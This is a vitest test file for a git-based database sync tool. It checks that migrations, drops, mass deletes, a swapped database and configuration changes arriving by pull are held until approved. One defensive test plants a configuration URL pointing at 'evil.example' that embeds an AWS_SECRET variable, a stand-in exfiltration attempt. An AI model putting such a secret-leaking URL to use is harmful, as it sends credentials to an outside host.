/** The life cycle, holding: what would lose data or send it elsewhere stops, collection by collection, with a line at every push and pull until somebody decides. */
import { rm } from 'node:fs/promises'
import { describe, expect, test } from 'vitest'
import { disagreements, exchange } from '../../support/agreement.ts'
import type { Asset } from '../../support/asset.ts'
import { openSqlite, sqlite } from '../../support/live-sqlite.ts'
import { trader, traders } from '../../support/traders.ts'
import { betweenTwo, type TwoAssets } from '../../support/two-assets.ts'

const post = (id: number): { id: number; title: string } => ({ id, title: `post ${id}` })
const RECORDS = { records: { traders: traders('id', 60), posts: [post(1), post(2)] } }
const between = (work: (assets: TwoAssets) => Promise<void>): Promise<void> => betweenTwo(sqlite, RECORDS, work)

const count = async (asset: Asset, collection: string): Promise<number> =>
  (await asset.database.rows(collection)).length

interface Status {
  readonly sources: Readonly<
    Record<string, { state: string; reason?: string; collections: Record<string, { state: string; since?: string }> }>
  >
}

async function statusOf(asset: Asset): Promise<Status['sources'][string]> {
  const status = JSON.parse((await asset.tandem('status', '--json')).stdout) as Status
  const source = status.sources['app']
  if (source === undefined) throw new Error('no status')
  return source
}

describe('a schema that was migrated on one machine', () => {
  const migrate = (asset: Asset): Promise<unknown> => asset.database.run('ALTER TABLE traders ADD COLUMN wins INTEGER')

  test('travels with the next push, which says so; the other machine holds that collection in both directions and goes on with the rest', () =>
    between(async ({ a, b }) => {
      await migrate(a)
      await a.database.change('traders', { id: 'trader-0001' }, { wins: 3 })
      await a.database.insert('posts', [post(3)])
      expect((await a.git('push')).text).toContain('data commit')
      const pull = await b.git('pull')
      expect(pull.text).toMatch(/app\/traders is held \(.+\): .*wins/)
      expect(await count(b, 'posts')).toBe(3)
      await b.database.change('traders', { id: 'trader-0002' }, { profit_usd: 22 })
      await b.database.insert('posts', [post(4)])
      const push = await b.git('push')
      expect(push.text).toMatch(/app\/traders is held \(.+\)/)
      expect((await b.git('show', '--stat', 'HEAD')).stdout).not.toContain('exports/app/traders')
      await a.git('pull')
      expect(await count(a, 'posts')).toBe(4)
      await migrate(b)
      expect((await b.tandem('apply')).code).toBe(0)
      await exchange({ a: b, b: a })
      expect((await a.database.rows('traders')).find(({ id }) => id === 'trader-0001')?.['wins']).toBe('3')
      expect((await a.database.rows('traders')).find(({ id }) => id === 'trader-0002')?.['profit_usd']).toBe('22')
      expect(await disagreements({ a, b })).toEqual([])
    }))

  test('is told in one line at every push and pull, with its age, and stands in status', () =>
    between(async ({ a, b }) => {
      await migrate(a)
      await a.git('push')
      for (const words of [['pull'], ['push'], ['push']]) {
        if (words[0] === 'push') await b.commit('code.txt', `${Math.random()}\n`)
        const lines = (await b.git(...words)).text.split('\n').filter((line) => line.includes('is held'))
        expect(lines).toHaveLength(1)
        expect(lines[0]).toMatch(/app\/traders is held \((just now|\d+ minutes?)\)/)
      }
      expect((await statusOf(b)).collections['traders']).toMatchObject({ state: 'held' })
      expect((await statusOf(b)).state).toBe('held')
    }))

  test('holds the collections that are tied to it by foreign keys, and only those', () =>
    betweenTwo(
      sqlite,
      {
        tables: [
          'CREATE TABLE owners (id TEXT PRIMARY KEY, name TEXT)',
          'CREATE TABLE pets (id TEXT PRIMARY KEY, owner TEXT REFERENCES owners (id), name TEXT)',
          'CREATE TABLE plants (id TEXT PRIMARY KEY, name TEXT)',
        ],
        records: {
          owners: [{ id: 'o1', name: 'Ann' }],
          pets: [{ id: 'p1', owner: 'o1', name: 'Rex' }],
          plants: [{ id: 'f1', name: 'fern' }],
        },
        collections: {},
      },
      async ({ a, b }) => {
        await a.database.run('ALTER TABLE pets ADD COLUMN age INTEGER')
        await a.database.insert('owners', [{ id: 'o2', name: 'Bob' }])
        await a.database.insert('pets', [{ id: 'p2', owner: 'o2', name: 'Tom', age: 2 }])
        await a.database.insert('plants', [{ id: 'f2', name: 'moss' }])
        await a.git('push')
        const pull = await b.git('pull')
        const held = pull.text.split('\n').filter((line) => / holds? |is held/.test(line))
        expect(held).toEqual([
          expect.stringMatching(/app\/pets is held \(.+\): .*age.*; pets holds 1 more table \(foreign keys\): owners$/),
        ])
        expect([await count(b, 'owners'), await count(b, 'pets'), await count(b, 'plants')]).toEqual([1, 1, 2])
        await b.database.run('ALTER TABLE pets ADD COLUMN age INTEGER')
        await b.tandem('apply')
        expect([await count(b, 'owners'), await count(b, 'pets')]).toEqual([2, 2])
        expect(await disagreements({ a, b })).toEqual([])
      },
    ))
})

describe('the export guard', () => {
  test('holds a dropped table until tandem forget retires it', () =>
    between(async ({ a, b }) => {
      await a.database.run('DROP TABLE posts')
      const push = await a.git('push')
      expect(push.text).toMatch(/app\/posts is held .*tandem forget app\/posts/)
      await b.git('pull')
      expect(await count(b, 'posts')).toBe(2)
      expect((await a.tandem('forget', 'app/posts')).code).toBe(0)
      expect((await a.git('push')).text).not.toContain('is held')
      await b.git('pull')
      expect(await count(b, 'posts')).toBe(2)
      expect((await a.git('ls-files', 'exports/app/posts')).stdout).toBe('')
    }))

  test('holds a table whose column was dropped until tandem forget --field says it is meant', () =>
    between(async ({ a, b }) => {
      await a.database.run('ALTER TABLE traders DROP COLUMN note')
      const before = await a.id('HEAD')
      const push = await a.git('push')
      expect(push.text).toMatch(/app\/traders is held .*note was dropped here.*tandem forget app\/traders --field note/)
      expect(await a.id('HEAD')).toBe(before)
      expect((await a.tandem('forget', 'app/traders', '--field', 'note')).code).toBe(0)
      expect((await a.git('push')).text).toContain('data commit')
      expect((await b.git('pull')).text).toMatch(/app\/traders is held/)
      expect(await count(b, 'traders')).toBe(60)
    }))

  test('holds an emptied table until so many deletes are allowed, and so does the other machine', () =>
    between(async ({ a, b }) => {
      await a.database.run('DELETE FROM traders')
      await a.database.insert('posts', [post(3)])
      const push = await a.git('push')
      expect(push.text).toMatch(/app\/traders is held .*would delete 60 of 60 records.*--allow-deletes traders=60/)
      await b.git('pull')
      expect([await count(b, 'traders'), await count(b, 'posts')]).toEqual([60, 3])
      expect((await a.tandem('export', '--commit', '--allow-deletes', 'traders=59')).text).toContain('is held')
      expect((await a.tandem('export', '--commit', '--yes')).text).toContain('is held')
      expect((await a.tandem('export', '--commit', '--allow-deletes', 'traders=60')).code).toBe(0)
      await a.git('push')
      expect((await b.git('pull')).text).toMatch(/app\/traders is held .*would delete 60 of 60/)
      expect(await count(b, 'traders')).toBe(60)
      expect((await b.tandem('apply', '--allow-deletes', 'traders=60')).code).toBe(0)
      expect(await count(b, 'traders')).toBe(0)
      expect(await disagreements({ a, b })).toEqual([])
    }))

  test('lets a few deletes pass without a word', () =>
    between(async ({ a, b }) => {
      for (const { id } of traders('id', 10)) await a.database.remove('traders', { id: String(id) })
      expect((await a.git('push')).text).not.toContain('is held')
      await b.git('pull')
      expect(await count(b, 'traders')).toBe(50)
    }))
})

describe('another database behind the URL', () => {
  test('is neither read nor written: not exported at a push, not changed by a pull', () =>
    between(async ({ a, b }) => {
      const other = openSqlite(`${b.root}/data/other.db`, '')
      await other.run(...sqlite.tables)
      await other.insert('traders', [trader('id', 900)])
      const before = await b.read('data/other.db')
      await b.start('cp', ['data/app.db', 'data/kept.db'])
      await b.start('cp', ['data/other.db', 'data/app.db'])
      await a.database.change('traders', { id: 'trader-0001' }, { profit_usd: 1000 })
      await a.git('push')
      const pull = await b.git('pull')
      expect(pull.text).toMatch(/is not the database that source app is bound to.*tandem init/)
      const push = await b.git('push')
      expect(push.text).toMatch(/is not the database that source app is bound to/)
      expect(await b.read('data/app.db')).toBe(before)
      expect((await b.tandem('apply')).code).toBe(5)
      await b.start('cp', ['data/kept.db', 'data/app.db'])
      expect((await b.tandem('apply')).code).toBe(0)
      expect(await disagreements({ a, b })).toEqual([])
    }))

  test('that was recreated with empty tables deletes nothing anywhere; an explicit init joins it and fills it', () =>
    between(async ({ a, b }) => {
      for (const file of ['app.db', 'app.db-wal', 'app.db-shm']) await rm(`${b.root}/data/${file}`, { force: true })
      await b.database.run(...sqlite.tables)
      const before = await b.id('HEAD')
      expect((await b.git('push')).text).toContain('is not the database that source app is bound to')
      expect(await b.id('HEAD')).toBe(before)
      expect(await count(b, 'traders')).toBe(0)
      expect((await b.tandem('init', '--yes')).code).toBe(0)
      expect([await count(b, 'traders'), await count(b, 'posts')]).toEqual([60, 2])
      expect(await disagreements({ a, b })).toEqual([])
    }))
})

describe('a configuration that came in by a pull', () => {
  /** Machine a changes the configuration by hand and pushes it. */
  async function reconfigure(a: Asset, edit: (text: string) => string): Promise<void> {
    await a.commit('tandem.config.json', edit(await a.read('tandem.config.json')))
    await a.git('push', '--no-verify')
  }

  test.each([
    ['sends the records to another file', (text: string) => text.replace('data/app.db', 'data/elsewhere.db')],
    [
      'exports what was excluded',
      (text: string) => text.replace('"url"', '"include": ["*", "_prisma_migrations"], "url"'),
    ],
    ['moves the exports', (text: string) => text.replace('{', '{ "exports": "public",')],
  ])('and %s holds the source until tandem init approves it', (_title, edit) =>
    between(async ({ a, b }) => {
      await reconfigure(a, edit)
      await a.git('commit', '-q', '--allow-empty', '-m', 'more')
      await a.git('push', '--no-verify')
      await b.database.change('traders', { id: 'trader-0001' }, { profit_usd: 1000 })
      const pull = await b.git('pull')
      expect(pull.text).toMatch(/(goes elsewhere|carries other collections) than approved in this clone.*tandem init/s)
      const before = await b.id('HEAD')
      expect((await b.git('push')).text).toContain('than approved in this clone')
      expect(await b.id('HEAD')).toBe(before)
      expect((await b.tandem('export', '--commit')).code).toBe(5)
    }),
  )

  test('reads no variable that was not approved, and never shows its value', () =>
    between(async ({ a, b }) => {
      await reconfigure(a, (text) => text.replace('sqlite:data/app.db', 'postgres://x@evil.example/${AWS_SECRET}'))
      await b.write('.env', `AWS_SECRET='hunter2'\n`)
      const pull = await b.start('git', ['pull'], { AWS_SECRET: 'hunter2' })
      expect(pull.code).toBe(0)
      expect(pull.text).toContain('AWS_SECRET')
      expect(pull.text).not.toContain('hunter2')
      const push = await b.start('git', ['push'], { AWS_SECRET: 'hunter2' })
      expect(push.text).not.toContain('hunter2')
    }))

  test('that is no valid configuration is told with the file’s name, and git goes on', () =>
    between(async ({ a, b }) => {
      await reconfigure(a, () => '{ "sources": { "app": { "ulr": "sqlite:data/app.db" } } }')
      const pull = await b.git('pull')
      expect(pull.text).toMatch(/tandem\.config\.json.*ulr.*url/s)
      expect(await b.id('HEAD')).toBe(await a.id('HEAD'))
      expect((await b.tandem('status')).code).toBe(2)
    }))
})
